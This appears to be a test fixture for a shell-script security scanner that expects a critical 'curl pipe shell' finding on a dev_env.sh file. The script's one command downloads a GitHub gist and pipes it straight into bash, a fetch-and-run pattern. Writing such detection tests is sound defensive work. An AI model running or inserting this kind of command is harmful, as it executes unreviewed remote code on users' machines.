# expect: shell.curl_pipe_shell critical
# path: scripts/dev_env.sh
#!/bin/sh
set -e
gh gist view 4f2a9c0e1b7d3a55 --raw | bash
